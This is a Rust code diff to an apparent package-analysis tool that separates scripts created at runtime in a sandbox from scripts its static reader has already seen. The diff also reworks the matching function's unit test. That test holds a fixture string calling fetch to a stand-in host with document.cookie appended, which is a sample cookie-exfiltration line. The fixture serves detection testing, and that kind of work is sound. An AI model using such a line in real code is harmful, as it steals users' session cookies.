@@ -5,14 +5,14 @@ use std::collections::BTreeSet;
 use crate::acquire::Package;
 use crate::model::Manifest;
 use crate::sandbox::Ran;
-use crate::script::{ExtraScript, World};
+use crate::script::{ExtraScript, Script, World};
 
 /// Pieces of made code that are read, and the bytes of one that are worth it.
 const PIECES: usize = 16;
 const LEAST: usize = 40;
 
-/// The pieces of code that the runs made and that stand nowhere in the package, in order.
-pub(super) fn created(story: &[Ran], package: &Package, manifest: Option<&Manifest>) -> Vec<ExtraScript> {
+/// The pieces of code that the runs made and that the static reader has not read, in order.
+pub(super) fn created(story: &[Ran], package: &Package, manifest: Option<&Manifest>, read: &[Script]) -> Vec<ExtraScript> {
     let matches: Vec<String> = manifest
         .into_iter()
         .flat_map(|manifest| {
@@ -25,7 +25,7 @@ pub(super) fn created(story: &[Ran], package: &Package, manifest: Option<&Manife
     for event in story.iter().flat_map(|ran| &ran.events).filter(|event| event.kind == "code") {
         let field = |name: &str| event.data.get(name).and_then(|value| value.as_str()).unwrap_or_default();
         let text = field("text");
-        if scripts.len() >= PIECES || text.len() < LEAST || !seen.insert(text) || is_read(text, package) {
+        if scripts.len() >= PIECES || text.len() < LEAST || !seen.insert(text) || is_read(text, package, read) {
             continue;
         }
         scripts.push(ExtraScript {
@@ -43,27 +43,34 @@ pub(super) fn created(story: &[Ran], package: &Package, manifest: Option<&Manife
     scripts
 }
 
-/// Whether a text stands in the package, or is a function that does with brackets around it: the static reader has followed both.
-fn is_read(text: &str, package: &Package) -> bool {
+/// Whether a text stands in the package, or is a function that does with brackets around it and was read as such.
+fn is_read(text: &str, package: &Package, read: &[Script]) -> bool {
     let called = text.find('(').zip(text.rfind(")(")).and_then(|(open, close)| text.get(open + 1..close));
-    let written_out = called.filter(|function| function.len() >= LEAST && text.len() - function.len() < LEAST);
-    package.holds_text(text) || written_out.is_some_and(|function| package.holds_text(function))
+    let written_out = called.filter(|_| read.iter().any(|script| script.bytes as usize == text.len()));
+    package.holds_text(text) || written_out.is_some_and(|function| function.len() >= LEAST && package.holds_text(function))
 }
 
 #[cfg(test)]
+#[allow(clippy::unwrap_used)]
 mod tests {
     use super::*;
+    use crate::script::evaluate::NoEvaluator;
+    use crate::script::{Input, analyse};
 
     #[test]
-    fn what_stands_in_the_package_is_not_read_again() {
+    fn what_was_read_is_not_read_again() {
         let function = "function hook() { window.postMessage({ from: location.host }, '*') }";
-        let package = Package::from_memory("x", [("a.js", format!("{function}\nput(`(${{hook}})()`)").as_bytes())]);
-        for read in [function.to_owned(), format!("({function})()"), format!(";({function})(window)")] {
-            assert!(is_read(&read, &package), "{read}");
+        let script = format!(
+            "{function}\nconst s = document.createElement('script'); s.text = `;(${{hook}})(window)`; document.body.append(s)"
+        );
+        let package = Package::from_memory("x", [("a.js", script.as_bytes())]);
+        let read = analyse(&Input::new(None, &package), &NoEvaluator).0.scripts;
+        for known in [function.to_owned(), format!(";({function})(window)")] {
+            assert!(is_read(&known, &package, &read), "{known}: {read:?}");
         }
-        let more = format!("({function})(); fetch('https://c.invalid/?' + document.cookie)");
-        for new in [more, function.replace("location.host", "document.cookie"), ")(".to_owned()] {
-            assert!(!is_read(&new, &package), "{new}");
+        let more = format!(";({function})(window); fetch('https://c.invalid/?' + document.cookie)");
+        for new in [format!("({function})()"), more, function.replace("location.host", "document.cookie"), "))((".to_owned()] {
+            assert!(!is_read(&new, &package, &read), "{new}");
         }
     }
 }
